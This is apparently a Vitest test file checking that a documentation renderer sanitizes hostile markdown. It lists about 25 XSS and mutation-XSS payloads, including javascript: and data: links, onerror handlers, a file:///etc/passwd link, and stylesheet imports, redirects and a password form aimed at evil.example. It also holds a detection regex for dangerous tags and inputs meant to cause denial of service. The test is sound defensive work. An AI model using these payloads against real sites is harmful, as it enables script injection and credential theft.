/** Markdown that wants to run, fetch, pass for something else, or never end (THREATS 32, 49, 59). */
import { describe, expect, it } from 'vitest';
import { renderDocs } from '../support/docs.ts';
import { worked } from '../support/patience.ts';

const attacks = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<object data="x.swf"></object><embed src=x>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<style>@import url(https://evil.example/x.css)</style>',
  '<a href="java\tscript:alert(1)">x</a> <a href="&#x6a;avascript:alert(1)">x</a> <a href=" javascript:alert(1)">x</a>',
  '[x](javascript:alert(1)) [x](JaVaScRiPt:alert(1)) [x](<java\nscript:alert(1)>) ![x](javascript:alert(1))',
  '[x](data:text/html,<script>alert(1)</script>) ![x](data:image/svg+xml,<svg onload=alert(1)>)',
  '[x](vbscript:x) [x](file:///etc/passwd) <javascript:alert(1)>',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<form action="https://evil.example"><input name="password"><button>go</button></form>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<a href="x" onclick="alert(1)" style="position:fixed">x</a>{: onmouseover="alert(1)" }',
  '[x](https://example.com){: onclick="alert(1)" href="javascript:alert(1)" style="x" }',
  '# x {: onclick=alert(1) }\n\n```py title="<img src=x onerror=alert(1)>"\nx\n```',
  '!!! note "<img src=x onerror=alert(1)>"\n    x\n\n??? "<script>alert(1)</script>"\n    x\n\n=== "<script>"\n    x',
  '*[x]: "><script>alert(1)</script>\n\nx',
  '[^<script>]\n\n[^<script>]: x',
  '```"><script>alert(1)</script>\nx\n```',
  '```math\n\\href{javascript:alert(1)}{x} \\text{<script>alert(1)</script>} \\class{cb-bar}{x}\n```',
  '<div id="cb-search" class="cb-bar">x</div><img name="querySelector" id="x">',
  '/// html | script\nalert(1)\n///\n\n/// html | div[onclick=alert(1)]\nx\n///',
];
/** Nothing of this may stand in a tag. */
const harmful =
  /<(?:script|style|svg|object|embed|iframe|base|meta|form|button|noscript|mglyph|template)\b|\son\w+\s*=|\sstyle\s*=|\sname="(?!__tabbed)|(?:href|src)="\s*(?:javascript|data|vbscript|file)|(?:id|class)="[^"]*\bcb-/i;

describe('hostile markdown', () => {
  it.each(attacks)('%s runs nothing', (attack) => {
    const { html, head } = renderDocs(attack);
    // What is escaped is text; what is quoted is a value, but for the names that are looked for.
    const tags = `${head}${html}`.replace(/(title|alt|aria-label)="[^"]*"/g, '$1=""').match(/<[^>]*>/g) ?? [];
    expect(tags.filter((tag) => harmful.test(tag))).toEqual([]);
  });

  it('keeps the text of what it does not allow (nothing is swallowed)', () => {
    const { html, troubles } = renderDocs('<script>alert(1)</script>\n\n<form action="/x">send</form>');
    expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(html).toContain('send');
    expect(troubles.map(({ what }) => what)).toEqual(['<script>', '<form>']);
  });

  it('fetches no picture from elsewhere, and says its words instead', () => {
    const { html } = renderDocs(
      '![The board](https://tracker.example/x.png) [![badge](//img.example/b)](https://ci.example)',
    );
    expect(html).not.toMatch(/<img/);
    expect(html).toContain('The board');
  });

  it.each([
    ['nested quotations', '>'.repeat(5_000)],
    ['nested lists', Array.from({ length: 300 }, (_, at) => `${'  '.repeat(at)}- x`).join('\n')],
    ['marks', '==a'.repeat(10_000)],
    ['open details', '??? x\n'.repeat(3_000)],
    ['braces', '{: .'.repeat(10_000)],
    ['terms', 'a\n'.repeat(10_000)],
    ['markup', '<div markdown>'.repeat(2_000)],
    ['footnotes', Array.from({ length: 2_000 }, (_, at) => `[^${at}]: x`).join('\n')],
  ])('%s without end are read in time (THREATS 59)', { timeout: 60_000 }, (_, text) => {
    const began = worked();
    try {
      renderDocs(text);
    } catch (error) {
      // Deeper than the engine's stack: the page is refused, which its thread tells.
      expect(error).toBeInstanceOf(RangeError);
    }
    expect(worked() - began).toBeLessThan(5_000);
  });
});
